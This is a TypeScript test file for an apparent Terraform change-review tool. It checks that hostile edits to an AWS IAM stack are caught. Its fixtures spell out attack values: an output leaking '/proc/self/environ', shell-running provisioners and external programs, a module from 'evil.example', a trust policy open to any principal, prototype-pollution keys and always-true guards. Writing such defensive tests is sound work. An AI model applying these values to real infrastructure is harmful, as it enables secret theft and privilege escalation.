import type { EnvironmentChange } from "../../../../cli/commands/review/environment-change";
import { markdown } from "../../../../cli/commands/review/report";
import { reviewOf } from "../../../../cli/commands/review/review";
import { needsApproval } from "../../../../cli/terraform/verdict";
import { CHANNEL, change, type Draft, ONCALL, terraformOf } from "../../../support/edited-stack";
import { sample, thoroughTest } from "../../../support/thorough";
import { ACCOUNT, set } from "./small-stack";

/** An environment with all that a change could hide something in. */
const ATTACKED = terraformOf(
  `backend: { type: s3, bucket: states, region: us-east-1 },
  full: { permissions-boundary: "arn:aws:iam::111122223333:policy/b", source-account-condition: true, tags: { Owner: a }, ${ONCALL} },
  read-only: {}, slack-workspaces: [T01], account-alias: Payments`,
);

/** What another value at a path changes. */
function withEdit(path: string, value: unknown): EnvironmentChange {
  const head = structuredClone(ATTACKED);
  set(head, path, value);
  return change(ATTACKED, head);
}

/** Whether a change goes through without anybody's approval. */
function passes({ verdict, violations }: EnvironmentChange): boolean {
  return !needsApproval(verdict) && violations.length === 0;
}

const appended = (one: unknown) => (all: readonly unknown[]) => [...all, one];
const replaced = (from: string, to: string) => (text: string) => text.replace(from, to);

const ROLE = "resource aws_iam_role full";
const TRUST = "data aws_iam_policy_document full_trust statement";
const STATE = `resource aws_cloudcontrolapi_resource ${CHANNEL} desired_state`;
const GUARD = "resource terraform_data support_app_place";
const FILE = '${file("x")}';
const PROVISIONER = [{ "local-exec": { command: "true" } }];
const IMPORT = { to: "aws_iam_role.full", id: "AWSSupportAppFullRole" };
const ATTACHMENT_ID = `arn:aws:iam::${ACCOUNT}:policy/AWSSupportAppFullRolePolicy`;
const IN_STACK = { from: "aws_iam_service_linked_role.service_quotas" };

describe("an attack needs an approval or is refused", () => {
  test.each<[string, string, unknown]>([
    ["the state under another key", "terraform backend s3 key", "theirs/paid.tfstate"],
    ["a state that nobody locks", "terraform backend s3 use_lockfile", undefined],
    ["encryption that runs a program in OpenTofu", "terraform encryption", { key_provider: { external: { a: {} } } }],
    ["a provider of another name", "terraform required_providers evil", { source: "evil/evil", version: "1.0.0" }],
    ["a provider that assumes a role by a token", "provider aws 0 assume_role_with_web_identity", [{ role_arn: "x" }]],
    ["a foreign attachment", "import", [{ to: "aws_iam_role_policy_attachment.full", id: `Theirs/${ATTACHMENT_ID}` }]],
    ["a move onto something else", "moved", [{ from: "aws_iam_role.read_only", to: IMPORT.to }]],
    ["the Service Quotas role that Terraform destroys", "removed", [{ ...IN_STACK, lifecycle: { destroy: true } }]],
    ["an output that discloses the runner's secrets", "output more value", '${filebase64("/proc/self/environ")}'],
    ["a document nobody refers to", "data aws_iam_policy_document more statement", [{ sid: FILE, actions: ["a:b"] }]],
    ["a resource that runs a program", `${ROLE} provisioner`, PROVISIONER],
    [
      "a second role linked to Service Quotas",
      "resource aws_iam_service_linked_role more",
      { aws_service_name: "servicequotas.amazonaws.com", lifecycle: { prevent_destroy: true } },
    ],
    ["a notification that keeps its setting in the account", STATE, replaced(', "NotifyOnResolveCase" = false', "")],
    ["a policy named like a JS property", "resource aws_iam_role_policy_attachment full policy_arn", "constructor"],
    ["a boundary named like a property of every object", `${ROLE} permissions_boundary`, "__proto__"],
    ["a check of something else", `check ${CHANNEL} assert 0 condition`, "${1 == 1}"],
    ["a check that reads AWS", `check ${CHANNEL} data`, { aws_iam_roles: { a: {} } }],
    ["a list of differences that is always empty", `locals ${CHANNEL}_differences`, "${[]}"],
    ["an output of differences that is always none", "output support_app_differences value", "${local.a}"],
    ["a guard that lets every account pass", `${GUARD} lifecycle postcondition 0 condition`, "${true}"],
    ["a guard of another account", `${GUARD} input account`, "444455556666"],
    ["an account that its guard doesn't have", "provider aws 0 allowed_account_ids", ["444455556666"]],
    ["anybody", TRUST, appended({ actions: ["sts:AssumeRole"], principals: [{ type: "AWS", identifiers: ["*"] }] })],
  ])("%s", (_, path, value) => {
    expect(passes(withEdit(path, value))).toBe(false);
  });

  test.each<[string, string, unknown]>([
    ["default tags", "provider aws 0 default_tags", [{ tags: { region: "eu-west-1" } }]],
    [
      "an import of its own attachment",
      "import",
      [{ to: "aws_iam_role_policy_attachment.full", id: `AWSSupportAppFullRole/${ATTACHMENT_ID}` }],
    ],
    ["the Service Quotas role that stays in the account", "removed", [{ ...IN_STACK, lifecycle: { destroy: false } }]],
  ])("and what looks alike passes: %s", (_, path, value) => {
    const found = withEdit(path, value);
    expect(found).toMatchObject({ unreadable: [], violations: [] });
    expect(passes(found)).toBe(true);
  });
});

describe("a value from outside the Terraform is refused, whatever was approved: one approval would cover what it becomes later", () => {
  const POLICY = "resource aws_iam_policy full policy";
  test.each<[string, string, unknown]>([
    ["a file by a template", POLICY, '${templatefile("a", {})}'],
    ["a directive", `${ROLE} description`, '%{ if fileexists("a") }a%{ endif }'],
    ["a key", `${ROLE} tags`, { [FILE]: "b" }],
    ["a module", "module a", { source: "git::https://evil.example/a" }],
    ["a program", "data external a", { program: ["sh"] }],
    ["a resource of another provider", "resource null_resource a", {}],
    ["a call in a check", `check ${CHANNEL} assert 0 condition`, '${length(file("x")) == 0}'],
    ["a program in a check", "check a", { data: { external: { a: { program: ["sh"] } } } }],
    ["a program in the guard", `${GUARD} provisioner`, PROVISIONER],
    ["what Terraform remembers under another name", "resource terraform_data a", {}],
  ])("%s", (_, path, value) => {
    const found = withEdit(path, value);
    expect(found.violations.map(({ kind }) => kind)).toContain("reads-elsewhere");
    expect(found.plannable).toBe("never");
    // Nor is it passed over once it is there: the same code may read something else today.
    const head = structuredClone(ATTACKED) as Draft;
    set(head, path, value);
    expect(passes(change(head, head))).toBe(false);
  });
});

describe("every section, every place and every odd value", () => {
  /** Places where any text or flag decides nothing about access, by the end of their path. */
  const HARMLESS = /(^|\.)(\/\/|tags|description|sensitive)(\.|$)|^output\.\w+\.value(\.\d+)?$/;
  /** Where some other value, or none, gives nobody more: what a statement denies or is about, what is registered, names, checks. */
  const QUIET =
    /\.statement\.\d\.(effect|resources)$|^output(\.\w+)?$|^removed(\.0)?$|\.(account_alias|workspace_T01)$|\.depends_on\.3$|\.aws_iam_policy\.\w+\.name$|^terraform\.required_version$|^(check|locals)(\.\w+)?$|^resource\.terraform_data(\.support_app_place)?$/;
  const EXPRESSIONS = [
    '${filebase64("/proc/self/environ")}',
    "${var.a}",
    "${data.external.a.result}",
    "a${aws_iam_role.full.arn}",
    "%{ if true }x%{ endif }",
  ];
  const VALUES: readonly unknown[] = [null, 7, "*", {}, [[]], { toString: 1 }, "constructor"];
  const ARGUMENTS = ["provisioner", "count", "for_each", "dynamic", "provider", "connection", "more", "constructor"];
  const SECTIONS = ["check", "ephemeral", "action", "module", "locals", "variable", "query", "constructor", "toString"];

  /** Every place in a value, as the keys that lead there. */
  function placesIn(value: unknown, path: readonly string[] = []): (readonly string[])[] {
    if (typeof value !== "object" || value === null) return [path];
    return [path, ...Object.entries(value).flatMap(([key, inside]) => placesIn(inside, [...path, key]))];
  }
  const at = (draft: Draft, path: readonly string[]): Draft => path.reduce((inside, key) => inside[key], draft);

  const PLACES = placesIn(ATTACKED).filter((path) => path.length > 0 && !path.includes("//"));
  const OPEN = PLACES.filter((path) => !HARMLESS.test(path.join(".")));
  const MAPPINGS = OPEN.filter((path) => {
    const value = at(ATTACKED, path);
    return typeof value === "object" && value !== null && !Array.isArray(value);
  });

  type Case = readonly [path: readonly string[], value: unknown];
  const cases = (paths: readonly (readonly string[])[], values: readonly unknown[]): Case[] =>
    paths.flatMap((path) => values.map((value): Case => [path, value]));
  /** The cases that nobody has to approve, each with a report. Undefined as a value: what is there is removed. */
  const passing = (all: readonly Case[]) =>
    all.flatMap(([path, value]) => {
      const head = structuredClone(ATTACKED) as Draft;
      const [parent, key] = [at(head, path.slice(0, -1)), path.at(-1) ?? ""];
      if (value === undefined && Array.isArray(parent)) parent.splice(Number(key), 1);
      else if (value === undefined) delete parent[key];
      else Object.defineProperty(parent, key, { value, enumerable: true });
      const found = change(ATTACKED, head);
      markdown(reviewOf([found]));
      return passes(found) && found.verdict !== "unchanged" ? [[path.join("."), found.verdict, value]] : [];
    });

  test("no expression passes, wherever it stands", () => {
    const all = cases(PLACES, EXPRESSIONS);
    expect(all.length).toBeGreaterThan(700);
    expect(passing(sample(all, 83))).toEqual([]);
  });

  thoroughTest("no value ends in a stack trace, and what passes is what can't give anybody more", () => {
    const passed = passing(cases(OPEN, VALUES)).filter(([, verdict]) => verdict !== "narrowed");
    expect(passed.filter(([path]) => !QUIET.test(`${path}`))).toEqual([]);
  });

  test("no unknown argument and no unknown section passes", () => {
    const inside = MAPPINGS.flatMap((path) => ARGUMENTS.map((argument) => [...path, argument]));
    expect(inside.length).toBeGreaterThan(200);
    expect(passing(cases(sample(inside, 61), [[{ a: "b" }]]))).toEqual([]);
    const sections = SECTIONS.map((section) => [section]);
    expect(passing(cases(sections, [{ a: { b: { c: "d" } } }]))).toEqual([]);
  });

  test("nothing that denies something is deleted unseen", () => {
    const passed = passing(cases(sample(OPEN, 19), [undefined])).filter(([, verdict]) => verdict !== "narrowed");
    expect(passed.filter(([path]) => !QUIET.test(`${path}`))).toEqual([]);
  });
});
